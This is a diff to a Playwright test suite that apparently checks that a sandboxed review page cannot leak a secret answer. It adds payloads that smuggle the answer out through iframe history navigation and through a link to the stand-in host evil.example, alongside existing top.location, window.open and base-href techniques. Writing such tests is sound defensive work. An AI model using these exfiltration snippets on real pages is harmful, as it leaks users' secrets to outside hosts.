@@ -125,6 +125,8 @@ SENDS = {
     "the window around it": "top.location = HOST + '?' + answer;",
     "a new window": "window.open(HOST + '?' + answer);",
     "the history": "history.pushState({}, '', '?' + answer); history.back();",
+    "the history of a frame in it": "document.body.append(Object.assign(document.createElement('iframe'), "
+    "{srcdoc: '<script>history.back(); history.go(-2)<' + '/script>'}));",
     "the base of addresses": "document.head.append(Object.assign(document.createElement('base'), {href: HOST})); "
     "new Image().src = 'x?' + answer;",
 }
@@ -135,6 +137,9 @@ def test_a_page_cannot_send_the_answer(page: Page, listener: Listener, dialogs: 
     hidden = f"whole('htt', 'p:/', '/127.0.', '0.1:', {listener.address.rpartition(':')[2]})"
     script = SENDS[way].replace("HOST", f"({hidden})").replace("NAMED", f"'{listener.address}'")
     script = script.replace(f"${{({hidden})}}", f"${{{hidden}}}")
+    # Two pages to which the window could go back.
+    page.goto(f"{listener.address}/one")
+    page.goto(f"{listener.address}/two")
     with reviewing(page, work_of(form(script), {"a": SECRET})) as review:
         if way not in ("its own address", "a refresh"):
             wait_until_done(page)
@@ -217,6 +222,18 @@ document.addEventListener("click", () => { press("a"); press("A"); });
         page.wait_for_function("heard.keys.length > 0")
         assert review.heard("keys") == ["x"]
         assert review.frame.title() == ""
+
+
+def test_a_link_made_of_the_answer_is_not_offered(page: Page) -> None:
+    script = """const link = document.body.appendChild(document.createElement("a"));
+link.textContent = "press"; link.href = whole("https:/", "/evil", ".example/?", answer);
+document.addEventListener("click", () => { document.title = "clicked"; });"""
+    with reviewing(page, work_of(form(script), {"a": SECRET})) as review:
+        wait_until_done(page)
+        review.frame.get_by_text("press").click()
+        review.frame.wait_for_function("document.title === 'clicked'")
+        review.settle()
+        assert review.heard("links") == []
 
 
 def test_dialogs_and_windows_stay_closed(page: Page, dialogs: list[str]) -> None:
